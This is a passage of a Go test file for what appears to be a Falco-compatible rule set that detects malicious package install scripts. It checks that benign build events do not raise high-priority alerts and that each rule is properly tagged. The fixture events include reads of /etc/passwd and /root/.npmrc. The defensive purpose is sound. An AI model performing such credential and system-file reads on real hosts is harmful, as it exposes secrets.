		reading(script, "/proc/meminfo"), reading(script, "/proc/self/cgroup"), reading(script, "/etc/passwd"),
		reading(script, "/etc/ssl/openssl.cnf"), reading(script, "/etc/resolv.conf"), reading(npm, "/root/.npmrc"),
		opening(npm, "/builds/project/.npmrc", "O_RDONLY", "ENOENT"),
		network("connect", script, "127.0.0.1:4873", "tcp"), network("connect", npm, "127.0.0.1:4873", "tcp"),
		duplicating(script, "unix", 0), duplicating(script, "pipe", 1),
		twoPaths("rename", script, "/builds/project/node_modules/x/a.tmp", "/builds/project/node_modules/x/a.js"),
		twoPaths("symlink", script, "/builds/project/node_modules/.bin/x", "../x/cli.js"),
	}
	set := shipped(t)
	for _, ev := range benign {
		for _, m := range set.Match(ev) {
			if m.Rule.Priority < finding.Notice {
				t.Errorf("%s (%s) matches %s", m.Rule.Name, m.Rule.Priority, describe(ev))
			}
		}
	}
}

// The rules must load in Falco too, and tell the correlator what it needs.
func TestShippedRulesAreComplete(t *testing.T) {
	data := string(shippedFile(t).Data)
	if strings.Contains(data, "falconer.") {
		t.Error("the rules use a falconer.* field, which Falco does not know")
	}
	for _, r := range shipped(t).Rules() {
		if !slices.Contains(r.Tags, "falconer") {
			t.Errorf("rule %q lacks the tag falconer", r.Name)
		}
		if !slices.ContainsFunc(r.Tags, func(s string) bool { return strings.HasPrefix(s, falco.BehaviourTag) }) {
			t.Errorf("rule %q names no behaviour", r.Name)
		}
		if !slices.ContainsFunc(r.Tags, func(s string) bool { return len(s) >= 5 && s[0] == 'T' && s[1] >= '0' && s[1] <= '9' }) {
			t.Errorf("rule %q names no technique", r.Name)
		}
		if r.Desc == "" || len(r.EventTypes) > 25 {
			t.Errorf("rule %q: description %q, %d event types", r.Name, r.Desc, len(r.EventTypes))
		}
	}
	for line := range strings.Lines(data) {
		if !strings.HasPrefix(line, "  output:") {
			continue
		}
		for _, want := range []string{"%evt.type", "%proc.cmdline", "%proc.aname[2]", "%proc.aname[3]", "%proc.env[FALCONER_SCAN_ID]"} {
			if !strings.Contains(line, want) {
				t.Errorf("an output lacks %s: %s", want, line)
			}
		}
	}
}
